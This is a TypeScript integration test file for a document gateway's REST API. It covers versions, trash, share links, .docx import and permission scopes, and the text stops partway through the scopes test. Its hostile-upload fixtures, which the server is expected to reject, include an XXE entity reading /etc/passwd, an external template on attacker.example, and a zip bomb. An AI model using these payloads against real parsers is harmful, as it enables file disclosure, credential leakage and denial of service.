// Living documents over REST, end to end (docs/api.md "Living documents"): a real gateway on a
// loopback port with its own SQLite file, real HTTP. Updates with If-Match/ETag (412 and nothing
// written; one winner among concurrent writers), If-None-Match 304, markdown reads, rename,
// versions, trash, share links, .docx import and replace (our own download; pandoc's and
// LibreOffice's files in other-writers.test.ts, the system suite),
// hostile uploads, scopes, other users' ids, 405s, and a restart on the same DATA_DIR.
import { documentItems } from "../../src/services/document-access.ts";
import { createHash, randomBytes } from "node:crypto";
import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { strToU8, zipSync, type Zippable } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../src/core/config.ts";
import { DOCX_ENTRY_LIMIT, DOCX_EXPANDED_LIMIT_BYTES } from "../../src/documents/import/index.ts";
import { createGateway } from "../../src/gateway.ts";
import { createApiKey } from "../../src/auth/api-keys.ts";
import { listen } from "../../src/server.ts";
import { TEMP_PREFIX } from "../../src/uploads/index.ts";
import { renderedDocx, rewrite, storedPackage, zeroBomb } from "../documents/import/docx-fixtures.ts";
import {
  client,
  DOCX_TYPE,
  errorOf,
  type Client,
  type ErrorBody,
  type ReadBody,
  type Record_,
  type VersionBody,
} from "../helpers/rest-documents.ts";
import { startTestGateway, type TestGateway } from "../helpers/gateway.ts";
import { usePostgresSchema } from "../helpers/postgres.ts";

const same = (a: Uint8Array, b: Uint8Array) => expect(Buffer.compare(Buffer.from(a), Buffer.from(b))).toBe(0);
const doc = (id: string) => `/api/v1/documents/${id}`;

/**
 * The hostile uploads, built when this file loads, before the gateway starts. Built inside the test
 * they held the event loop, which the in-process gateway shares, for seconds (zipSync of 10,001
 * entries at its default level: 2.7–3.4 s on a loaded 2-core machine, more under a full `npm test`).
 * A request sent on a pooled keep-alive connection right after a block of over 5 s reaches a server
 * whose keep-alive timer (5 s) fires in the same turn: it closes the connection under the request,
 * and the client reads ECONNRESET. Stored entries (level 0) make the same 10,001 entries in a tenth of it.
 */
async function buildHostileUploads(): Promise<[string, Uint8Array, number, string][]> {
  const good = await renderedDocx();
  const manyEntries: Zippable = {};
  for (let i = 0; i <= DOCX_ENTRY_LIMIT; i++) manyEntries[`word/media/${i}.bin`] = new Uint8Array(0);
  const settingsRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///\\\\attacker.example\\share\\template.dotm" TargetMode="External"/></Relationships>`;
  return [
    ["not a zip", strToU8("%PDF-1.7 certainly not a word document"), 415, "UNSUPPORTED_MEDIA_TYPE"],
    ["a zip that is no Word package", zipSync({ "notes.txt": strToU8("hello") }), 415, "UNSUPPORTED_MEDIA_TYPE"],
    ["a zip bomb", zeroBomb(DOCX_EXPANDED_LIMIT_BYTES + 1024 * 1024), 413, "PAYLOAD_TOO_LARGE"],
    ["too many entries", zipSync(manyEntries, { level: 0 }), 413, "PAYLOAD_TOO_LARGE"],
    [
      "a DTD",
      rewrite(good, {
        "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
      }),
      415,
      "UNSUPPORTED_MEDIA_TYPE",
    ],
    ["an external template", rewrite(good, { "word/_rels/settings.xml.rels": settingsRels }), 415, "UNSUPPORTED_MEDIA_TYPE"],
    ["over 25 MB", new Uint8Array(25 * 1024 * 1024 + 1), 413, "PAYLOAD_TOO_LARGE"],
  ];
}
const hostileUploads = await buildHostileUploads();

let tg: TestGateway;
let alice: Client;
let bob: Client;
let anonymous: Client;

beforeAll(async () => {
  tg = await startTestGateway();
  alice = client(tg.url, await tg.key({ user: "alice" }));
  bob = client(tg.url, await tg.key({ user: "bob" }));
  anonymous = client(tg.url, null);
});
afterAll(() => tg?.close());

describe("updates, ETags and preconditions", () => {
  it('PUT markdown → 200, version 2, ETag "v2"; a stale If-Match → 412 and nothing written; If-None-Match → 304', async () => {
    const created = await alice.post("/api/v1/documents", { name: "Plan", markdown: "# One\n\nThe first text.\n" });
    expect(created.status).toBe(201);
    expect(created.headers.get("etag")).toBe('"v1"');
    const record = (await created.json()) as Record_;
    expect(record.version).toBe(1);

    const put = await alice.put(doc(record.id), { markdown: "# Two\n\nThe *second* text.\n" }, { "if-match": '"v1"' });
    expect(put.status).toBe(200);
    expect(put.headers.get("etag")).toBe('"v2"');
    const updated = (await put.json()) as Record_;
    expect(updated).toMatchObject({
      id: record.id,
      name: "Plan",
      version: 2,
      createdAt: record.createdAt,
      url: record.url,
      downloadUrl: record.downloadUrl,
    });
    expect(updated.updatedAt >= record.updatedAt).toBe(true);
    const read = await alice.text(record.id);
    expect(read).toMatchObject({ version: 2, format: "text", text: "Two\n\nThe second text.", truncated: false });
    expect(updated.characters).toBe(read.text.length);

    const stale = await alice.put(doc(record.id), { markdown: "# Three\n" }, { "if-match": '"v1"' });
    const body = await errorOf(stale, 412, "PRECONDITION_FAILED");
    expect(body.error.details).toEqual({ currentVersion: 2 });
    // A weak tag, a list or a tag this API never issued matches no version either.
    for (const ifMatch of ['W/"v2"', '"v1", "v2"', '"abc"', "v2"]) {
      await errorOf(await alice.put(doc(record.id), { markdown: "# Three\n" }, { "if-match": ifMatch }), 412, "PRECONDITION_FAILED");
    }
    const after = await alice.get(doc(record.id));
    expect(after.headers.get("etag")).toBe('"v2"');
    expect(((await after.json()) as ReadBody).text).toBe("Two\n\nThe second text.");

    // If-None-Match with the current ETag: 304 without a body; an older one gets the body.
    const notModified = await alice.get(doc(record.id), { "if-none-match": '"v2"' });
    expect(notModified.status).toBe(304);
    expect(notModified.headers.get("etag")).toBe('"v2"');
    expect(await notModified.text()).toBe("");
    expect((await alice.get(doc(record.id), { "if-none-match": 'W/"v2"' })).status).toBe(304);
    expect((await alice.get(doc(record.id), { "if-none-match": '"v1", "v2"' })).status).toBe(304);
    const changed = await alice.get(doc(record.id), { "if-none-match": '"v1"' });
    expect(changed.status).toBe(200);
    expect(changed.headers.get("etag")).toBe('"v2"');

    // If-Match "*" is any current version.
    const any = await alice.put(doc(record.id), { markdown: "# Three\n" }, { "if-match": "*" });
    expect(any.status).toBe(200);
    expect(any.headers.get("etag")).toBe('"v3"');
    // Without If-Match the change applies to whatever is current.
    expect((await alice.put(doc(record.id), { markdown: "# Four\n", name: "Plan 4" })).headers.get("etag")).toBe('"v4"');
    expect(await alice.text(record.id)).toMatchObject({ name: "Plan 4", version: 4, text: "Four" });
  });

  it("GET ?format=markdown returns the markdown; ?format=text the text; another format → 400", async () => {
    const markdown = "# Heading\n\nSome **bold** and a [link](https://example.com).\n\n- one\n- two\n\n| A | B |\n| --- | --- |\n| 1 | 2 |";
    const record = await alice.create("Markdown", markdown);
    const read = await alice.text(record.id, "?format=markdown");
    expect(read).toMatchObject({ format: "markdown", text: markdown, version: 1, totalChars: markdown.length });
    const text = (await alice.text(record.id, "?format=text")).text;
    expect(text).not.toMatch(/[#*|[\]]/);
    expect(text.split("\n").filter((line) => line !== "")).toEqual(["Heading", "Some bold and a link.", "one", "two", "A", "B", "1", "2"]);
    expect((await alice.text(record.id, "?format=markdown&maxChars=9")).text).toBe("# Heading");
    await errorOf(await alice.get(`${doc(record.id)}?format=html`), 400, "BAD_USER_INPUT");

    await alice.put(doc(record.id), { markdown: "## Second\n\n*em*" });
    expect((await alice.text(record.id, "?format=markdown")).text).toBe("## Second\n\n*em*");
  });

  it("two concurrent PUTs with the same If-Match: exactly one 200, the other 412", async () => {
    for (let round = 0; round < 3; round++) {
      const record = await alice.create(`Race ${round}`, "# Start\n");
      const results = await Promise.all(
        ["A", "B", "C"].map((who) => alice.put(doc(record.id), { markdown: `# Writer ${who}\n` }, { "if-match": '"v1"' })),
      );
      const statuses = results.map((r) => r.status).sort();
      expect(statuses).toEqual([200, 412, 412]);
      const winner = results.find((r) => r.status === 200)!;
      const won = (await winner.json()) as Record_;
      expect(won.version).toBe(2);
      for (const loser of results.filter((r) => r.status === 412)) await errorOf(loser, 412, "PRECONDITION_FAILED");
      const versions = (await (await alice.get(`${doc(record.id)}/versions`)).json()) as { versions: VersionBody[] };
      expect(versions.versions.map((v) => v.version)).toEqual([2, 1]);
    }
  });

  it("PATCH renames: a new version with the same content, If-Match honoured; only a name is accepted", async () => {
    const record = await alice.create("Before rename", "# Body\n");
    const before = await alice.bytes(`${doc(record.id)}/content`);
    await errorOf(await alice.patch(doc(record.id), { name: "Nope" }, { "if-match": '"v2"' }), 412, "PRECONDITION_FAILED");
    const renamed = await alice.patch(doc(record.id), { name: "  After rename  " }, { "if-match": '"v1"' });
    expect(renamed.status).toBe(200);
    expect(renamed.headers.get("etag")).toBe('"v2"');
    expect(await renamed.json()).toMatchObject({
      id: record.id,
      name: "After rename",
      version: 2,
      sizeBytes: record.sizeBytes,
      characters: record.characters,
    });
    same(await alice.bytes(`${doc(record.id)}/content`), before);
    const download = await alice.get(`${doc(record.id)}/content`);
    expect(download.headers.get("content-disposition")).toContain('filename="After rename.docx"');
    const found = (await (await alice.get("/api/v1/documents?query=after%20RENAME")).json()) as { documents: Record_[] };
    expect(found.documents.map((d) => d.id)).toEqual([record.id]);
    const versions = (await (await alice.get(`${doc(record.id)}/versions`)).json()) as { versions: VersionBody[] };
    expect(versions.versions.map((v) => [v.version, v.name, v.source])).toEqual([
      [2, "After rename", "rename"],
      [1, "Before rename", "markdown"],
    ]);

    await errorOf(await alice.patch(doc(record.id), { name: "x", markdown: "# no" }), 400, "BAD_USER_INPUT");
    await errorOf(await alice.patch(doc(record.id), {}), 400, "BAD_USER_INPUT");
    await errorOf(await alice.patch(doc(record.id), { name: "   " }), 400, "BAD_USER_INPUT");
    await errorOf(
      await alice.call(doc(record.id), { method: "PATCH", headers: { "content-type": "text/plain" }, body: "name" }),
      415,
      "UNSUPPORTED_MEDIA_TYPE",
    );
    await errorOf(await alice.put(doc(record.id), {}), 400, "BAD_USER_INPUT");
    await errorOf(await alice.put(doc(record.id), { markdown: "a".repeat(400_001) }), 413, "PAYLOAD_TOO_LARGE");
    expect((await alice.text(record.id)).version).toBe(2);
  });
});

describe("versions", () => {
  it("lists newest first with paging, reads and downloads old versions, restores one as the newest", async () => {
    const record = await alice.create("History", "# First\n\nOne.");
    const v1Docx = await alice.bytes(`${doc(record.id)}/content`);
    await alice.put(doc(record.id), { markdown: "# Second\n\nTwo." });
    await alice.patch(doc(record.id), { name: "History renamed" });
    await alice.put(doc(record.id), { markdown: "# Fourth\n\nFour." });

    const list = await alice.get(`${doc(record.id)}/versions`);
    expect(list.status).toBe(200);
    const { versions, nextCursor } = (await list.json()) as { versions: VersionBody[]; nextCursor: string | null };
    expect(nextCursor).toBeNull();
    expect(versions.map((v) => [v.version, v.name, v.source, v.createdBy])).toEqual([
      [4, "History renamed", "markdown", "alice"],
      [3, "History renamed", "rename", "alice"],
      [2, "History", "markdown", "alice"],
      [1, "History", "markdown", "alice"],
    ]);
    expect(versions[3]).toMatchObject({ sizeBytes: v1Docx.byteLength, characters: "First\n\nOne.".length, createdAt: record.createdAt });

    const pages: number[] = [];
    let cursor: string | null = null;
    do {
      const response = await alice.get(`${doc(record.id)}/versions?limit=3${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`);
      const page = (await response.json()) as { versions: VersionBody[]; nextCursor: string | null };
      expect(page.versions.length).toBeLessThanOrEqual(3);
      pages.push(...page.versions.map((v) => v.version));
      cursor = page.nextCursor;
    } while (cursor);
    expect(pages).toEqual([4, 3, 2, 1]);
    await errorOf(await alice.get(`${doc(record.id)}/versions?limit=0`), 400, "BAD_USER_INPUT");
    await errorOf(await alice.get(`${doc(record.id)}/versions?cursor=bogus`), 400, "BAD_USER_INPUT");

    const v1 = await alice.get(`${doc(record.id)}/versions/1`);
    expect(v1.status).toBe(200);
    expect(await v1.json()).toMatchObject({
      id: record.id,
      name: "History",
      version: 1,
      format: "text",
      text: "First\n\nOne.",
      truncated: false,
    });
    expect((await alice.text(record.id, "/versions/2?format=markdown")).text).toBe("# Second\n\nTwo.");
    expect((await alice.text(record.id, "/versions/4")).text).toBe("Fourth\n\nFour.");
    expect((await alice.text(record.id, "/versions/1?maxChars=3")).text).toBe("Fir");
    const v1Download = await alice.get(`${doc(record.id)}/versions/1/content`);
    expect(v1Download.headers.get("content-type")).toBe(DOCX_TYPE);
    expect(v1Download.headers.get("content-disposition")).toContain('filename="History.docx"');
    same(new Uint8Array(await v1Download.arrayBuffer()), v1Docx);

    for (const missing of ["5", "99", "0"]) {
      const status = missing === "0" ? 400 : 404;
      await errorOf(await alice.get(`${doc(record.id)}/versions/${missing}`), status, status === 400 ? "BAD_USER_INPUT" : "NOT_FOUND");
      await errorOf(
        await alice.get(`${doc(record.id)}/versions/${missing}/content`),
        status,
        status === 400 ? "BAD_USER_INPUT" : "NOT_FOUND",
      );
    }
    await errorOf(await alice.get(`${doc(record.id)}/versions/abc`), 400, "BAD_USER_INPUT");

    await errorOf(
      await alice.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v3"' } }),
      412,
      "PRECONDITION_FAILED",
    );
    const restored = await alice.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v4"' } });
    expect(restored.status).toBe(200);
    expect(restored.headers.get("etag")).toBe('"v5"');
    expect(await restored.json()).toMatchObject({ id: record.id, version: 5, name: "History renamed", sizeBytes: v1Docx.byteLength });
    expect(await alice.text(record.id)).toMatchObject({ version: 5, text: "First\n\nOne." });
    expect((await alice.text(record.id, "?format=markdown")).text).toBe("# First\n\nOne.");
    same(await alice.bytes(`${doc(record.id)}/content`), v1Docx);
    const after = (await (await alice.get(`${doc(record.id)}/versions?limit=2`)).json()) as { versions: VersionBody[] };
    expect(after.versions.map((v) => [v.version, v.source])).toEqual([
      [5, "restore"],
      [4, "markdown"],
    ]);
    await errorOf(await alice.call(`${doc(record.id)}/versions/9/restore`, { method: "POST" }), 404, "NOT_FOUND");
  });
});

describe("trash", () => {
  it("DELETE → 204 and invisible everywhere; listed in the trash; restore brings it back; purge removes it for good", async () => {
    const record = await alice.create("To the trash", "# Gone\n");
    await alice.put(doc(record.id), { markdown: "# Gone, v2\n" });
    const share = (await (await alice.post(`${doc(record.id)}/shares`, {})).json()) as { id: string; url: string };

    await errorOf(await alice.del(doc(record.id), { "if-match": '"v1"' }), 412, "PRECONDITION_FAILED");
    expect((await alice.get(doc(record.id))).status).toBe(200);
    const deleted = await alice.del(doc(record.id), { "if-match": '"v2"' });
    expect(deleted.status).toBe(204);
    expect(await deleted.text()).toBe("");

    for (const path of ["", "/content", "/versions", "/versions/1", "/versions/1/content", "/shares"]) {
      await errorOf(await alice.get(`${doc(record.id)}${path}`), 404, "NOT_FOUND");
    }
    await errorOf(await alice.put(doc(record.id), { markdown: "# back?" }), 404, "NOT_FOUND");
    await errorOf(await alice.patch(doc(record.id), { name: "back?" }), 404, "NOT_FOUND");
    await errorOf(await alice.del(doc(record.id)), 404, "NOT_FOUND");
    await errorOf(await alice.post(`${doc(record.id)}/shares`, {}), 404, "NOT_FOUND");
    await errorOf(await alice.del(`${doc(record.id)}/shares/${share.id}`), 404, "NOT_FOUND");
    await errorOf(await alice.call(`${doc(record.id)}/versions/1/restore`, { method: "POST" }), 404, "NOT_FOUND");
    await errorOf(await anonymous.get(new URL(share.url, tg.url).pathname), 404, "NOT_FOUND");
    expect(await alice.ids()).not.toContain(record.id);

    const trash = await alice.get("/api/v1/trash");
    expect(trash.status).toBe(200);
    const listed = (await trash.json()) as { documents: (Record_ & { deletedAt: string })[]; nextCursor: string | null };
    const entry = listed.documents.find((d) => d.id === record.id);
    expect(entry).toMatchObject({ id: record.id, name: "To the trash", version: 2, url: record.url });
    expect(Date.parse(entry!.deletedAt)).toBeGreaterThan(Date.now() - 60_000);
    expect((await (await alice.get("/api/v1/trash?query=TO%20THE")).json()) as { documents: Record_[] }).toMatchObject({
      documents: [{ id: record.id }],
    });

    const restored = await alice.call(`/api/v1/trash/${record.id}/restore`, { method: "POST" });
    expect(restored.status).toBe(200);
    expect(restored.headers.get("etag")).toBe('"v2"');
    expect(await restored.json()).toMatchObject({ id: record.id, version: 2 });
    expect((await alice.text(record.id)).text).toBe("Gone, v2");
    expect(await alice.ids()).toContain(record.id);
    // The delete ended the link for good (issue 23 finding 6): the restore does not revive it.
    await errorOf(await anonymous.get(new URL(share.url, tg.url).pathname), 404, "NOT_FOUND");
    await errorOf(await alice.call(`/api/v1/trash/${record.id}/restore`, { method: "POST" }), 404, "NOT_FOUND");
    // Purge takes only a document in the trash.
    await errorOf(await alice.del(`/api/v1/trash/${record.id}`), 404, "NOT_FOUND");

    expect((await alice.del(doc(record.id))).status).toBe(204);
    const purged = await alice.del(`/api/v1/trash/${record.id}`);
    expect(purged.status).toBe(204);
    const trashAfter = (await (await alice.get("/api/v1/trash")).json()) as { documents: Record_[] };
    expect(trashAfter.documents.map((d) => d.id)).not.toContain(record.id);
    await errorOf(await alice.call(`/api/v1/trash/${record.id}/restore`, { method: "POST" }), 404, "NOT_FOUND");
    await errorOf(await alice.del(`/api/v1/trash/${record.id}`), 404, "NOT_FOUND");
    await errorOf(await alice.get(doc(record.id)), 404, "NOT_FOUND");
    await errorOf(await anonymous.get(new URL(share.url, tg.url).pathname), 404, "NOT_FOUND");
    // Ids that are not document ids are simply not found.
    await errorOf(await alice.call(`/api/v1/trash/not-an-id/restore`, { method: "POST" }), 404, "NOT_FOUND");
    await errorOf(await alice.del(`/api/v1/trash/not-an-id`), 404, "NOT_FOUND");
  });

  it("the trash pages newest first", async () => {
    const owner = client(tg.url, await tg.key({ user: "trash-pager" }));
    const records = [];
    for (let i = 0; i < 5; i++) records.push(await owner.create(`T${i}`, "x"));
    for (const record of records) expect((await owner.del(doc(record.id))).status).toBe(204);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page = (await (await owner.get(`/api/v1/trash?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`)).json()) as {
        documents: Record_[];
        nextCursor: string | null;
      };
      seen.push(...page.documents.map((d) => d.id));
      cursor = page.nextCursor;
    } while (cursor);
    expect(seen).toEqual(records.map((r) => r.id).reverse());
    expect(await owner.ids()).toEqual([]);
  });
});

describe("share links", () => {
  it("POST → 201 with a wgs_ link that reads text and downloads the .docx without a credential; listed without tokens; revoked → 404", async () => {
    const record = await alice.create("Shared", "# Shared heading\n\nFor everyone.");
    const created = await alice.post(`${doc(record.id)}/shares`, {});
    expect(created.status).toBe(201);
    expect(created.headers.get("cache-control")).toContain("no-store");
    const share = (await created.json()) as { id: string; url: string; createdAt: string; expiresAt: string };
    expect(share.id).toMatch(/^shr_/);
    expect(share.url).toMatch(/^\/api\/v1\/shared\/wgs_[A-Za-z0-9_-]{43}$/);
    expect(Date.parse(share.expiresAt) - Date.parse(share.createdAt)).toBe(7 * 24 * 60 * 60 * 1000);
    const token = share.url.split("/").at(-1)!;

    const read = await anonymous.get(share.url);
    expect(read.status).toBe(200);
    expect(read.headers.get("etag")).toBe('"v1"');
    expect(read.headers.get("cache-control")).toContain("no-store");
    expect(read.headers.get("referrer-policy")).toBe("no-referrer");
    expect(await read.json()).toMatchObject({ id: record.id, name: "Shared", version: 1, text: "Shared heading\n\nFor everyone." });
    expect((await (await anonymous.get(`${share.url}?format=markdown&maxChars=16`)).json()) as ReadBody).toMatchObject({
      text: "# Shared heading",
      truncated: true,
    });
    const file = await anonymous.get(`${share.url}/content`);
    expect(file.status).toBe(200);
    expect(file.headers.get("content-type")).toBe(DOCX_TYPE);
    same(new Uint8Array(await file.arrayBuffer()), await alice.bytes(`${doc(record.id)}/content`));
    // Another user's credential on the link changes nothing: the token is the credential.
    expect((await bob.get(share.url)).status).toBe(200);

    // The link follows the current version.
    await alice.put(doc(record.id), { markdown: "Updated for everyone." });
    expect((await (await anonymous.get(share.url)).json()) as ReadBody).toMatchObject({ version: 2, text: "Updated for everyone." });

    const second = (await (await alice.post(`${doc(record.id)}/shares`, { expiresInSeconds: 60 })).json()) as {
      id: string;
      createdAt: string;
      expiresAt: string;
    };
    expect(Date.parse(second.expiresAt) - Date.parse(second.createdAt)).toBe(60_000);
    const list = await alice.get(`${doc(record.id)}/shares`);
    expect(list.status).toBe(200);
    const listText = await list.text();
    expect(listText).not.toContain(token);
    expect(listText).not.toContain("wgs_");
    expect(JSON.parse(listText)).toEqual({
      shares: [
        { id: second.id, createdAt: second.createdAt, expiresAt: second.expiresAt },
        { id: share.id, createdAt: share.createdAt, expiresAt: share.expiresAt },
      ],
    });

    const revoked = await alice.del(`${doc(record.id)}/shares/${share.id}`);
    expect(revoked.status).toBe(204);
    await errorOf(await anonymous.get(share.url), 404, "NOT_FOUND");
    await errorOf(await anonymous.get(`${share.url}/content`), 404, "NOT_FOUND");
    await errorOf(await alice.del(`${doc(record.id)}/shares/${share.id}`), 404, "NOT_FOUND");
    expect(((await (await alice.get(`${doc(record.id)}/shares`)).json()) as { shares: { id: string }[] }).shares.map((s) => s.id)).toEqual([
      second.id,
    ]);

    // Tokens that were never issued, or not even shaped like one.
    await errorOf(await anonymous.get(`/api/v1/shared/wgs_${randomBytes(32).toString("base64url")}`), 404, "NOT_FOUND");
    await errorOf(await anonymous.get(`/api/v1/shared/nothing`), 404, "NOT_FOUND");
  });

  it("expiresInSeconds: 60..31536000 (59 → 400); an expired link → 404", async () => {
    const record = await alice.create("Expiring", "Soon gone.");
    for (const bad of [59, 31_536_001, 0, -1, 1.5, "59", null]) {
      await errorOf(await alice.post(`${doc(record.id)}/shares`, { expiresInSeconds: bad }), 400, "BAD_USER_INPUT");
    }
    await errorOf(await alice.post(`${doc(record.id)}/shares`, { unknown: 1 }), 400, "BAD_USER_INPUT");
    expect((await alice.post(`${doc(record.id)}/shares`, { expiresInSeconds: 31_536_000 })).status).toBe(201);
    // No body at all: the default expiry.
    expect((await alice.call(`${doc(record.id)}/shares`, { method: "POST" })).status).toBe(201);

    // A link that expired a second ago, written straight to the store (its token hashed as the service does).
    const token = `wgs_${randomBytes(32).toString("base64url")}`;
    const now = Date.now();
    await tg.gateway.store.insertShare({
      id: "shr_expired",
      kind: "document",
      targetId: record.id,
      ownerId: "alice",
      createdAt: new Date(now - 61_000).toISOString(),
      expiresAt: new Date(now - 1_000).toISOString(),
      tokenHash: createHash("sha256").update(token).digest("hex"),
    });
    await errorOf(await anonymous.get(`/api/v1/shared/${token}`), 404, "NOT_FOUND");
    await errorOf(await anonymous.get(`/api/v1/shared/${token}/content`), 404, "NOT_FOUND");
    const listed = (await (await alice.get(`${doc(record.id)}/shares`)).json()) as { shares: { id: string }[] };
    expect(listed.shares.map((s) => s.id)).not.toContain("shr_expired");
  });

  it("a deleted document's link → 404", async () => {
    const record = await alice.create("Shared then deleted", "Text.");
    const share = (await (await alice.post(`${doc(record.id)}/shares`, {})).json()) as { url: string };
    expect((await anonymous.get(share.url)).status).toBe(200);
    expect((await alice.del(doc(record.id))).status).toBe(204);
    await errorOf(await anonymous.get(share.url), 404, "NOT_FOUND");
    await errorOf(await anonymous.get(`${share.url}/content`), 404, "NOT_FOUND");
  });
});

describe("imports and .docx replacements", () => {
  it("POST multipart (name + our own .docx) → 201, text read back; without a name the file's name is used", async () => {
    const source = await alice.create("Source", "# Exported\n\n- alpha\n- beta\n\nClosing words.");
    const exported = await alice.bytes(`${doc(source.id)}/content`);

    const imported = await alice.form("POST", "/api/v1/documents", { name: "Imported copy" }, { bytes: exported, name: "whatever.docx" });
    expect(imported.status).toBe(201);
    expect(imported.headers.get("etag")).toBe('"v1"');
    const record = (await imported.json()) as Record_;
    expect(imported.headers.get("location")).toBe(record.url);
    // What is stored is the package written anew from what was checked, not the uploaded bytes.
    expect(record).toMatchObject({ name: "Imported copy", version: 1, sizeBytes: (await storedPackage(exported)).byteLength });
    expect((await alice.text(record.id)).text).toBe((await alice.text(source.id)).text);
    same(await alice.bytes(`${doc(record.id)}/content`), await storedPackage(exported));
    const markdown = (await alice.text(record.id, "?format=markdown")).text;
    expect(markdown).toMatch(/^# Exported$/m);
    expect(markdown).toMatch(/^- alpha\n- beta$/m);
    const versions = (await (await alice.get(`${doc(record.id)}/versions`)).json()) as { versions: VersionBody[] };
    expect(versions.versions.map((v) => v.source)).toEqual(["docx"]);

    const unnamed = await alice.form("POST", "/api/v1/documents", {}, { bytes: exported, name: "Quarterly review.docx" });
    expect(unnamed.status).toBe(201);
    expect(((await unnamed.json()) as Record_).name).toBe("Quarterly review");

    // Idempotency-Key works for imports too.
    const keyed = () =>
      alice.form(
        "POST",
        "/api/v1/documents",
        { name: "Once" },
        { bytes: exported, name: "once.docx" },
        { "idempotency-key": "import-once" },
      );
    const first = (await (await keyed()).json()) as Record_;
    const again = await keyed();
    expect(again.headers.get("idempotent-replayed")).toBe("true");
    expect(((await again.json()) as Record_).id).toBe(first.id);

    await errorOf(await alice.form("POST", "/api/v1/documents", { name: "No file" }), 400, "BAD_USER_INPUT");
    await errorOf(
      await alice.form("POST", "/api/v1/documents", { name: "x", extra: "y" }, { bytes: exported, name: "x.docx" }),
      400,
      "BAD_USER_INPUT",
    );
  });

  it("PUT multipart .docx → a new version from the file; a name beside it renames; a stale If-Match → 412, nothing written", async () => {
    const record = await alice.create("Replace me", "# Old\n");
    const replacement = await renderedDocx("# New content\n\nFrom a file.\n");
    const replaced = await alice.form("PUT", doc(record.id), { name: "Replaced" }, { bytes: replacement, name: "new.docx" });
    expect(replaced.status).toBe(200);
    expect(await replaced.json()).toMatchObject({ name: "Replaced", version: 2, sizeBytes: (await storedPackage(replacement)).byteLength });
    expect((await alice.text(record.id)).text).toBe("New content\n\nFrom a file.");
    expect((await alice.text(record.id, "?format=markdown")).text).toMatch(/^# New content\n\nFrom a file\.\n?$/);
    const versions = (await (await alice.get(`${doc(record.id)}/versions`)).json()) as { versions: VersionBody[] };
    expect(versions.versions[0]).toMatchObject({ version: 2, source: "docx", name: "Replaced" });

    const stale = await alice.form(
      "PUT",
      doc(record.id),
      {},
      { bytes: await renderedDocx("# Lost\n"), name: "lost.docx" },
      { "if-match": '"v1"' },
    );
    await errorOf(stale, 412, "PRECONDITION_FAILED");
    expect(await alice.text(record.id)).toMatchObject({ version: 2, text: "New content\n\nFrom a file." });
    await errorOf(
      await alice.form("PUT", doc(record.id), { markdown: "# no" }, { bytes: replacement, name: "x.docx" }),
      400,
      "BAD_USER_INPUT",
    );
  });

  it("hostile uploads → 415 / 413 with nothing stored: not a zip, not a Word package, a zip bomb, too many entries, a DTD, an external template, over 25 MB", async () => {
    const owner = client(tg.url, await tg.key({ user: "hostile-uploader" }));
    const target = await owner.create("Target", "# Keep me\n");
    const listBefore = await owner.ids();
    const cases = hostileUploads;
    // The gateway spools uploads under TMPDIR: a directory of this test's own, to see that nothing is left.
    const spoolDir = await mkdtemp(join(tmpdir(), "wg-rest-spool-"));
    const savedTmpdir = process.env["TMPDIR"];
    process.env["TMPDIR"] = spoolDir;
    try {
      for (const [what, bytes, status, code] of cases) {
        const imported = await owner.form("POST", "/api/v1/documents", { name: what }, { bytes, name: "hostile.docx" });
        expect({ what, status: imported.status }).toEqual({ what, status });
        await errorOf(imported, status, code);
        // The bomb costs the server 200 MB of inflating per try; the replace path shares the check, once is enough.
        if (what === "a zip bomb") continue;
        const replaced = await owner.form("PUT", doc(target.id), {}, { bytes, name: "hostile.docx" });
        expect({ what, status: replaced.status }).toEqual({ what, status });
        await errorOf(replaced, status, code);
      }
      expect((await readdir(spoolDir)).filter((name) => name.startsWith(TEMP_PREFIX))).toEqual([]);
    } finally {
      if (savedTmpdir === undefined) delete process.env["TMPDIR"];
      else process.env["TMPDIR"] = savedTmpdir;
      await rm(spoolDir, { recursive: true, force: true });
    }
    expect(await owner.ids()).toEqual(listBefore);
    expect(await owner.text(target.id)).toMatchObject({ version: 1, text: "Keep me" });
    const trash = (await (await owner.get("/api/v1/trash")).json()) as { documents: unknown[] };
    expect(trash.documents).toEqual([]);
  }, 60_000);
});

describe("scopes and other users", () => {
  it("a docs:read key cannot change anything (403); a key without docs:read cannot read versions, trash or shares (403); none → 401", async () => {
    const record = await alice.create("Scoped", "# Scoped\n");
    const share = (await (await alice.post(`${doc(record.id)}/shares`, {})).json()) as { id: string };
    const trashed = await alice.create("Scoped trash", "x");
    await alice.del(doc(trashed.id));
    const docx = await alice.bytes(`${doc(record.id)}/content`);

    const reader = client(tg.url, await tg.key({ user: "alice", scopes: ["docs:read"] }));
    const writes: [string, () => Promise<Response>][] = [
      ["PUT", () => reader.put(doc(record.id), { markdown: "# no" })],
      ["PUT multipart", () => reader.form("PUT", doc(record.id), {}, { bytes: docx, name: "x.docx" })],
      ["import", () => reader.form("POST", "/api/v1/documents", { name: "x" }, { bytes: docx, name: "x.docx" })],
      ["PATCH", () => reader.patch(doc(record.id), { name: "no" })],
      ["DELETE", () => reader.del(doc(record.id))],
      ["share", () => reader.post(`${doc(record.id)}/shares`, {})],
      ["revoke", () => reader.del(`${doc(record.id)}/shares/${share.id}`)],
      ["restore version", () => reader.call(`${doc(record.id)}/versions/1/restore`, { method: "POST" })],
      ["restore from trash", () => reader.call(`/api/v1/trash/${trashed.id}/restore`, { method: "POST" })],
      ["purge", () => reader.del(`/api/v1/trash/${trashed.id}`)],
    ];
    for (const [what, call] of writes) {
      const response = await call();
      expect({ what, status: response.status }).toEqual({ what, status: 403 });
      expect(((await response.json()) as ErrorBody).error.code).toBe("FORBIDDEN");
      expect(response.headers.get("www-authenticate")).toContain('scope="docs:write"');
    }
    // Reads are fine with docs:read.
